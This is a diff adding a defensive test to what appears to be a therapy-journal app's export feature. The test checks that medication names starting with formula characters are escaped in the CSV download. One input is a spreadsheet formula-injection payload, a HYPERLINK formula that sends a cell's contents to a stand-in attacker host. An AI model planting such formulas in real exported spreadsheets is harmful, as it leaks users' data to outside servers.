@@ -135,6 +135,28 @@ def test_spreadsheets_are_for_people(
     assert archive.read("spreadsheets/checkins.csv").startswith(b"\xef\xbb\xbf")  # Excel's UTF-8
 
 
+def test_text_a_spreadsheet_would_run_is_shown_as_text(
+    api, client_a, django_capture_on_commit_callbacks
+):
+    """A homework title or medication name someone else could write must not become a
+    formula in the client's spreadsheet (attacker run: =HYPERLINK, @SUM)."""
+    from journal.services.medications import medication_event_create
+
+    for name in ('=HYPERLINK("http://evil.example/?d="&B2,"Open")', "@SUM(1)", "+1", "-2+3"):
+        medication_event_create(
+            client=client_a, medication=name, kind="start", occurred_on=date(2026, 11, 27)
+        )
+    started = _build(api, client_a, django_capture_on_commit_callbacks)
+    response = api.as_(client_a).get(f"/api/v1/exports/{started['id']}/download/")
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    header, *rows = _sheet(archive, "medications.csv")
+    names = sorted(row[header.index("Medication")] for row in rows)
+    # A plain number is left as it is (a spreadsheet reads "+1" as 1, nothing runs).
+    assert names == ["'-2+3", '\'=HYPERLINK("http://evil.example/?d="&B2,"Open")', "'@SUM(1)", "+1"]
+    data = json.loads(archive.read("data.json"))
+    assert "@SUM(1)" in json.dumps(data)  # the JSON keeps what was written
+
+
 def test_others_cannot_read_or_download(
     api, client_a, client_b, therapist_a, django_capture_on_commit_callbacks
 ):
